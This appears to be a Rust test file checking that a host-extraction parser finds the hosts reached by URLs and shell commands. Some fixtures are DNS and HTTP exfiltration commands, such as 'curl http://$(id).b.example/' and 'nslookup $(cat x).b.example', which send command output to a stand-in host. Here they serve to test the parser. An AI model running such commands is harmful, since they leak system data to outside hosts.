//! Where a host ends, and what of it is known.

use super::super::Position;
use super::found;

/// Texts, and the hosts in their URLs and commands; `*.b.example` for one of which only the end is known.
const TAKEN: &[(&str, &[&str])] = &[
    // What is put in.
    ("curl http://$(id).b.example/", &["*.b.example"]),
    ("curl http://`id`.b.example/", &["*.b.example"]),
    (
        "curl 'http://$(cat /etc/x | tr a \"b\").b.example/'",
        &["*.b.example"],
    ),
    ("curl \"https://$USER.b.example\"", &["*.b.example"]),
    ("https://{x}.b.example/", &["*.b.example"]),
    ("https://{{ x }}.b.example:80/", &["*.b.example"]),
    ("https://#{x}.b.example/", &["*.b.example"]),
    ("https://%USER%.b.example/", &["*.b.example"]),
    ("https://*.b.example/", &["*.b.example"]),
    ("https://$X/", &["*"]),
    ("https://$(x", &["*"]),
    ("https://good.example$X", &["good.example", "*"]),
    (
        "https://good.example$X.b.example/",
        &["good.example", "good.example.b.example", "*.b.example"],
    ),
    ("https://b${X}.example/", &["b", "b.example", "*.example"]),
    ("nslookup $(id).b.example", &["*.b.example"]),
    ("nslookup $(cat x).b.example", &["*.b.example"]),
    ("nslookup \"$(cat x).b.example\"", &["*.b.example"]),
    ("dig ${X}.b.example TXT", &["*.b.example"]),
    ("ping -c1 `hostname`.b.example", &["*.b.example"]),
    ("bash -c \"dig $(id).b.example\"", &["*.b.example"]),
    ("curl $(echo -s) a.example", &["a.example"]),
    ("ssh $USER@a.example", &["a.example"]),
    ("curl $URL/x.tgz $HOME", &["*"]),
    ("curl http://`(id)`.b.example/", &["*.b.example"]),
    (
        "curl https://good.example`/bin/id`.b.example/",
        &["good.example", "good.example.b.example", "*.b.example"],
    ),
    ("https://$((((((((x)))))))).b.example/", &["*.b.example"]),
    ("https://$(((((((((x))))))))).b.example/", &["*"]),
    (
        "https://{a/}{a/}{a/}{a/}{a/}{a/}{a/}{a/}.b.example/",
        &["*.b.example"],
    ),
    (
        "https://$(/)$(/)$(/)$(/)$(/)$(/)$(/)$(/)$(/).b.example/",
        &["*"],
    ),
    ("https://${X:-x@good.example}/", &["*", "good.example"]),
    ("nslookup x.b.example$Z", &["x.b.example", "*"]),
    ("curl 127.1$Z", &["127.0.0.1", "*"]),
    ("curl b${X}.example", &["b.example", "*.example"]),
    ("curl file$X $Y", &["*"]),
    (
        "curl {x{x{x{x{x{x{x{x{x{x http://$X.b.example/",
        &["*.b.example"],
    ),
    ("ssh a.example \"deploy.sh $TAG\"", &["a.example"]),
    ("git push u@b.example:a/c.git", &["b.example"]),
    ("sftp u@b.example", &["b.example"]),
    // What no client reads.
    ("https://b..example/", &["*.example"]),
    ("https://.../", &[]),
    ("https://", &[]),
    // Behind a sign that no name has.
    (
        "https://good.example+.b.example/",
        &["good.example", "*.b.example"],
    ),
    (
        "https://good.example).b.example/",
        &["good.example", "*.b.example"],
    ),
    (
        "https://good.example&x=.b.example/",
        &["good.example", "*.b.example"],
    ),
    (
        "https://[2001:db8::1].b.example/",
        &["2001:db8::1", "*.b.example"],
    ),
    ("curl good.example+.b.example", &["*.b.example"]),
    // Text around it.
    ("see https://good.example, and", &["good.example"]),
    ("see https://good.example!? And", &["good.example"]),
    ("see https://good.example...", &["good.example"]),
    ("(https://good.example)", &["good.example"]),
    ("(https://good.example).", &["good.example"]),
    ("[x](https://good.example)", &["good.example"]),
    ("**https://good.example**", &["good.example"]),
    ("`https://good.example` and `x`.", &["good.example"]),
    ("`https://good.example`: `GET`", &["good.example"]),
    ("`https://good.example`. Then `x`", &["good.example"]),
    (
        "Use `https://good.example`, `https://c.example`.",
        &["good.example", "c.example"],
    ),
    (
        "`https://good.example`/`https://c.example`,`x`",
        &["good.example", "c.example"],
    ),
    ("url=https://good.example&x=1", &["good.example"]),
    ("url=https://good.example&x=1.5", &["good.example"]),
    (
        "{\"u\":\"https://good.example\",\"v\":1}",
        &["good.example"],
    ),
    ("{u:https://good.example,v:1}", &["good.example"]),
    (
        "https://good.example,https://c.example",
        &["good.example", "c.example"],
    ),
    ("curl https://good.example|tee a.log", &["good.example"]),
    ("curl https://good.example&&./x.sh", &["good.example"]),
    ("curl https://good.example; ls x.sh", &["good.example"]),
    ("https://u$X:p{1}@good.example/", &["good.example"]),
    ("http://good.example:$PORT/", &["good.example"]),
    ("^https://good.example$", &["good.example"]),
];

#[test]
fn a_host_is_taken_to_its_end() {
    let wrong: Vec<_> = TAKEN
        .iter()
        .filter_map(|(text, expected)| {
            let mut all = found(text, false);
            all.retain(|(_, p)| matches!(p, Position::Url | Position::Argument));
            all.dedup_by(|a, b| a.0 == b.0);
            let names: Vec<_> = all.into_iter().map(|(host, _)| host).collect();
            (names != *expected).then_some((text, names))
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn userinfo_hides_nothing_however_long_it_is() {
    let userinfo = "a".repeat(300);
    let text = format!("https://{userinfo}@${{X:-x@good.example}}/");
    let whole = ("*".to_owned(), Position::Url);
    assert!(found(&text, false).contains(&whole));
}
